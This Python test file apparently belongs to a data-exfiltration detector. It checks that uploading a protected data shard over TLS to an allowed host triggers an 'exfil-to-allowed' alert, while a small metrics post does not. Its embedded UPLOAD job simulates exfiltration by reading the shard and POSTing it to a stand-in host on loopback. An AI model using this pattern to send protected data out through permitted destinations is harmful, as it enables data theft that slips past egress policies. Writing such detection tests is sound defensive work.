"""A19: exfiltration through an allowed destination (issue 15,
exfil-to-allowed). A TLS server on loopback with a self-signed certificate is
the policy's allowed upload host; the job reaches it by a hard-coded IP (no
DNS: the name is only in the TLS handshake). A job that reads a protected
shard of a few MiB and uploads it over HTTPS raises exfil-to-allowed naming
the shard and the server name of its ClientHello (network.sni); a job that
reads the same shard and posts a small metrics record to the same host raises
nothing. Both are judged after the daemon's sync barrier."""
import http.server
import os
import ssl
import subprocess
import sys
import tempfile
import threading
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness  # noqa: E402
import trust  # noqa: E402
from fixture import DataTree  # noqa: E402
from harness import Daemon  # noqa: E402

PY = trust.PY
NAME = "uploads.example.test"
SHARD_BYTES = 3 * 1024 * 1024

# argv: port, shard, what to post ("shard": the shard's bytes; "metrics": a
# small JSON record). The CA certificate comes in $FTS_KT_CA (PEM): reading
# a file for it would be a read outside the job's data.
UPLOAD = r'''
import http.client, json, os, socket, ssl, sys
port, shard, what = int(sys.argv[1]), sys.argv[2], sys.argv[3]
data = open(shard, "rb").read()
body = data if what == "shard" else json.dumps({"step": 100, "loss": 1.25, "seen": len(data)}).encode()
ctx = ssl.create_default_context(cadata=os.environ["FTS_KT_CA"])
conn = http.client.HTTPSConnection("uploads.example.test", port, context=ctx, timeout=30)
# The address is hard-coded (no DNS): the name is only the TLS server name.
conn.sock = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=30),
                            server_hostname="uploads.example.test")
conn.request("POST", "/upload", body=body, headers={"Content-Type": "application/octet-stream"})
r = conn.getresponse()
assert r.status == 200 and r.read() == b"ok", r.status
conn.close()
'''


class TlsUploadServer:
    """HTTPS on 127.0.0.1 with a self-signed certificate for NAME; remembers the
    server name each handshake asked for and each POST body's size."""

    def __init__(self, tmp):
        self.cert, key = os.path.join(tmp, "cert.pem"), os.path.join(tmp, "key.pem")
        subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", key, "-out",
                        self.cert, "-days", "1", "-subj", f"/CN={NAME}", "-addext", f"subjectAltName=DNS:{NAME}"],
                       check=True, capture_output=True, timeout=60)
        self.names, self.bodies = [], []
        bodies = self.bodies

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self):
                n = int(self.headers.get("Content-Length", 0))
                bodies.append(len(self.rfile.read(n)))
                self.send_response(200)
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"ok")

            def log_message(self, *args):
                pass

        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain(self.cert, key)
        ctx.sni_callback = lambda sock, name, c: self.names.append(name)
        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.socket = ctx.wrap_socket(self.httpd.socket, server_side=True)
        self.port = self.httpd.server_address[1]
        self.thread = threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.1}, daemon=True)
        self.thread.start()

    def ca(self):
        with open(self.cert) as f:
            return f.read()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()
        self.thread.join(timeout=5)


class ExfilToAllowedTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.t = DataTree()
        cls.tmp = tempfile.mkdtemp(prefix="fts-kt-tls-")
        cls.shard = os.path.join(cls.t.approved, "shard-big.bin")
        with open(cls.shard, "wb") as f:
            f.write(os.urandom(SHARD_BYTES))  # random: no compression makes it smaller on the wire
        cls.server = TlsUploadServer(cls.tmp)
        extra = (f'network:\n  egress: ["127.0.0.1/32:{cls.server.port}"]\n'
                 '  max_bytes_per_destination: "64MiB"\n')
        cls.d = Daemon({"ft.yaml": cls.t.policy(extra=extra)},
                       extra_config="sensor: { flow_report_seconds: 1 }\n").start()

    @classmethod
    def tearDownClass(cls):
        cls.d.cleanup()
        cls.server.close()
        cls.t.cleanup()
        subprocess.run(["rm", "-rf", cls.tmp], check=False)

    def upload(self, what):
        env = dict(os.environ, FTS_KT_CA=self.server.ca())
        r = harness.subprocess.run([harness.CLI, "--socket", self.d.socket, "run", "--policy", "ft", "--", PY, "-c",
                                    UPLOAD, str(self.server.port), self.shard, what],
                                   capture_output=True, text=True, timeout=180, env=env)
        self.assertEqual(r.returncode, 0, f"{what} job failed:\n{r.stdout}\n{r.stderr}")
        return r.stderr.split("job ")[1].split()[0]

    def test_a19_a_shard_uploaded_over_tls_to_an_allowed_host(self):
        shard_job = self.upload("shard")
        metrics_job = self.upload("metrics")
        trust.ended(self.d, shard_job)
        trust.ended(self.d, metrics_job)  # the barrier: everything both jobs did is judged
        events = self.d.events()
        # Both handshakes asked for NAME, and both bodies arrived whole.
        self.assertEqual(self.server.names, [NAME, NAME])
        self.assertEqual(sorted(self.server.bodies)[-1], SHARD_BYTES)

        al = trust.alerts_in(events, shard_job)
        self.assertEqual(trust.rules(al), ["exfil-to-allowed"], [a["message"] for a in al])
        a = al[0]
        self.assertEqual(a["severity"], "high")
        self.assertEqual(a["network"]["sni"], NAME)
        self.assertEqual((a["network"]["daddr"], a["network"]["dport"]), ("127.0.0.1", self.server.port))
        self.assertGreaterEqual(int(a["network"]["total_bytes"]), SHARD_BYTES)
        self.assertEqual(a["file"]["path"], self.shard)
        self.assertEqual([m["path"] for m in a["matched_files"]], [self.shard])
        self.assertEqual(int(a["matched_files"][0]["size"]), SHARD_BYTES)
        with open(self.shard, "rb") as f:
            import hashlib
            self.assertEqual(a["matched_files"][0]["sha256"], hashlib.sha256(f.read()).hexdigest())
        self.assertIn(NAME, a["message"])
        self.assertEqual(a["mitre"]["attack"], ["T1567"])
        self.assertEqual(a["mitre"]["atlas"], ["AML.T0025"])

        # The job's network events name the flow by its server name: the
        # ClientHello itself, and the socket's flow.
        net = [e for e in harness.of_kind(events, "network", job=shard_job)
               if e["network"].get("dport") == self.server.port]
        hello = [e for e in net if e["network"]["op"] == "tls_client_hello"]
        self.assertEqual(len(hello), 1, [harness.summary(e) for e in net])
        self.assertEqual(hello[0]["network"]["sni"], NAME)
        self.assertEqual(hello[0]["network"]["daddr"], "127.0.0.1")
        flows = [e for e in net if e["network"]["op"] == "flow"]
        self.assertEqual(len(flows), 1, [harness.summary(e) for e in net])
        self.assertEqual(flows[0]["network"]["sni"], NAME)
        self.assertEqual(flows[0]["network"]["cookie"], hello[0]["network"]["cookie"])
        self.assertEqual(flows[0]["network"]["verdict"], "allowed")

        # The positive control: the same shard read, small metrics to the
        # same host, seen by the same sensor (its hello named too): nothing.
        self.assertEqual(trust.alerts_in(events, metrics_job), [])
        mhello = [e for e in harness.of_kind(events, "network", job=metrics_job)
                  if e["network"].get("op") == "tls_client_hello"]
        self.assertEqual([e["network"]["sni"] for e in mhello], [NAME])
        mhash = [e for e in harness.of_kind(events, "file_hash", job=metrics_job)
                 if e["file"]["path"] == self.shard]
        self.assertEqual(len(mhash), 1, "the metrics job read the shard too")


if __name__ == "__main__":
    harness.main()
